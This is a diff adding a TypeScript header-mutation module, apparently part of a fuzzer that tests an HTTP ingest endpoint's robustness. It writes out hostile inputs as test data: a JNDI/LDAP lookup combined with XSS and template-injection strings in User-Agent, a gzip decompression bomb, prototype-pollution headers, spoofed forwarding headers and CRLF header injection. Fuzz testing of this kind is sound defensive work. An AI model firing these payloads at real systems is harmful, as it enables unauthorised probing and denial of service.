@@ -1,0 +1,186 @@
+import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
+import { dropHeader, setHeader } from '../draft.ts';
+import type { Random } from '../random.ts';
+import { type Apply, mutations, utf8 } from './mutation.ts';
+
+const add =
+  (name: string, ...values: string[]): Apply =>
+  (draft) =>
+    values.forEach((value) => {
+      draft.headers.push({ name, value });
+    });
+
+const set =
+  (name: string, value: string): Apply =>
+  (draft) =>
+    setHeader(draft, name, value);
+
+/** A line that is no header at all. */
+const line =
+  (text: string): Apply =>
+  (draft, random) => {
+    draft.headers.splice(random.below(draft.headers.length + 1), 0, {
+      name: text,
+      value: '',
+    });
+  };
+
+const anyCase = (text: string, random: Random) =>
+  [...text].map((each) => (random.chance(0.5) ? each.toUpperCase() : each.toLowerCase())).join('');
+
+/** Eleven megabytes in eleven kilobytes. */
+const BOMB = gzipSync(Buffer.alloc(11 * 1024 * 1024));
+
+const HARMLESS: Apply[] = [
+  (draft, random) => {
+    draft.headers = draft.headers.map(({ name, value }) => ({ name: anyCase(name, random), value }));
+  },
+  (draft) => {
+    draft.headers.reverse();
+  },
+  (draft) => {
+    draft.headers = draft.headers.map(({ name, value }) => ({
+      name,
+      value: (made) => ` \t${typeof value === 'string' ? value : value(made)}\t  `,
+    }));
+  },
+  (draft, random) => {
+    for (let count = random.between(1, 700); count > 0; count -= 1) {
+      draft.headers.push({ name: `x-${random.text(4)}`, value: random.text(random.below(8)) });
+    }
+  },
+  add('X-Empty', ''),
+  add('X-Same', 'one', 'two', 'two'),
+  add('__proto__', 'polluted'),
+  add('constructor', 'polluted'),
+  add('hasOwnProperty', '1'),
+  add('Cookie', 'session=1; admin=true'),
+  add('X-Forwarded-For', '203.0.113.9', '198.51.100.7, 127.0.0.1'),
+  add('X-Forwarded-Host', 'evil.example.com'),
+  add('X-HTTP-Method-Override', 'GET'),
+  add('X-Original-URL', '/api/ingest/x'),
+  add('X-Amzn-RequestId', 'mine'),
+  add('Accept', 'text/html;q=0, application/xml', '*/*'),
+  add('Accept-Encoding', 'gzip, br'),
+  add('Range', 'bytes=0-1'),
+  add('If-None-Match', '*'),
+  add('Origin', 'https://evil.example.com'),
+  add('X-Odd', utf8('é漢😀\u202e')),
+  add('X-Odd', '\u00ff\u0080\u00a0'),
+  set('User-Agent', ''),
+  set('User-Agent', 'a'.repeat(6000)),
+  set('User-Agent', '$'.concat('{jndi:ldap://example.com/a} <script>alert(1)</script> %s%n {{7*7}}')),
+  set('User-Agent', '\u00e9\u00ff\u0080'),
+  (draft) => dropHeader(draft, 'User-Agent'),
+  add('Expect', '100-continue'),
+  add('Connection', 'close'),
+  add('Connection', 'keep-alive, X-Odd, Authorization'),
+  add('Keep-Alive', 'timeout=0'),
+  add('TE', 'trailers'),
+  add('Upgrade', 'h2c'),
+  add('Content-Encoding', 'identity'),
+  add('Content-Encoding', '', 'IDENTITY', ' identity, identity'),
+  add('Content-Length-Extra', '5'),
+  add('Content-MD5', 'nonsense'),
+  set('Content-Type', 'application/json; charset=utf-8'),
+  set('Content-Type', 'APPLICATION/JSON'),
+  set('Content-Type', 'application/json;charset="utf-16";;;=;'),
+  set('Content-Type', ' application/json '),
+  set('Content-Type', `application/json; x=${'y'.repeat(5000)}`),
+];
+
+const FATAL: Apply[] = [
+  ...[
+    ...['', 'text/plain', 'text/json', 'application/vnd.api+json', 'application/problem+json', '*/*', 'json'],
+    ...['application/json, application/json', 'application/jsonp', 'application/x-www-form-urlencoded'],
+    ...['multipart/form-data; boundary=x', 'application/json/', 'application /json', '"application/json"'],
+    ...['; application/json', utf8('application/jsоn'), '\u00ff'],
+  ].map((type) => set('Content-Type', type)),
+  (draft) => dropHeader(draft, 'Content-Type'),
+  add('Content-Type', 'application/json'),
+  add('CONTENT-TYPE', 'text/plain'),
+  (draft) => dropHeader(draft, 'Host'),
+  ...[
+    'gzip',
+    'deflate',
+    'br',
+    'zstd',
+    'compress',
+    'x-gzip',
+    'gzip, identity',
+    'identity, br',
+    'chunked',
+    '\u00ff',
+  ].map((coding) => add('Content-Encoding', coding)),
+  add('Content-Encoding', 'identity', 'gzip'),
+  ...Object.entries({ gzip: gzipSync, deflate: deflateSync, br: brotliCompressSync }).map(
+    ([coding, compress]): Apply =>
+      (draft) => {
+        draft.headers.push({ name: 'Content-Encoding', value: coding });
+        draft.body = compress(draft.body);
+      },
+  ),
+  (draft) => {
+    draft.headers.push({ name: 'Content-Encoding', value: 'deflate' });
+    draft.body = deflateRawSync(draft.body);
+  },
+  (draft) => {
+    draft.headers.push({ name: 'Content-Encoding', value: 'gzip, gzip' });
+    draft.body = gzipSync(gzipSync(draft.body));
+  },
+  (draft, random) => {
+    draft.headers.push({ name: 'Content-Encoding', value: random.pick(['gzip', ' GZip ']) });
+    draft.body = BOMB;
+  },
+  (draft) => {
+    draft.headers.push({ name: 'Content-Encoding', value: 'gzip' });
+    draft.body = gzipSync(draft.body).subarray(0, -3);
+  },
+  (draft, random) => {
+    draft.headers.push({ name: 'X-Long', value: 'x'.repeat(random.between(10_240, 60_000)) });
+  },
+  add('X-Huge', 'x'.repeat(70_000)),
+  (draft, random) => {
+    for (let count = 40; count > 0; count -= 1)
+      draft.headers.push({ name: 'X-Many', value: random.text(300) });
+  },
+  ...[
+    'X-Folded: a\r\n b',
+    'X-Null: a\0b',
+    'X-Return: a\rb',
+    'X Space',
+    'no colon\r\nX',
+    '(bad)',
+    'X\u00e9',
+    '\0',
+  ].map(line),
+  line(''),
+  line('X-Feed: a\nX-Feed: b\n\nX'),
+];
+
+const OPEN: Apply[] = [
+  add('Expect', 'the-unexpected'),
+  add('Host', 'second.example.com'),
+  set('Host', ''),
+  set('Host', '\u00ff:99999'),
+  add('Upgrade', 'websocket'),
+  (draft) => {
+    draft.headers.push({ name: 'Connection', value: 'upgrade' }, { name: 'Upgrade', value: 'websocket' });
+  },
+  add('Connection', 'close, close'),
+  (draft) => {
+    draft.version = 'HTTP/1.0';
+  },
+  ...['HTTP/2.0', 'HTTP/0.9', 'HTTP/1.2', 'HTTP/1.1.1', 'http/1.1', 'HTTP/', '', 'HTCPCP/1.0'].map(
+    (version): Apply =>
+      (draft) => {
+        draft.version = version;
+      },
+  ),
+];
+
+export const HEADERS = [
+  ...mutations('headers', 'harmless', HARMLESS),
+  ...mutations('headers', 'fatal', FATAL),
+  ...mutations('headers', 'open', OPEN),
+];
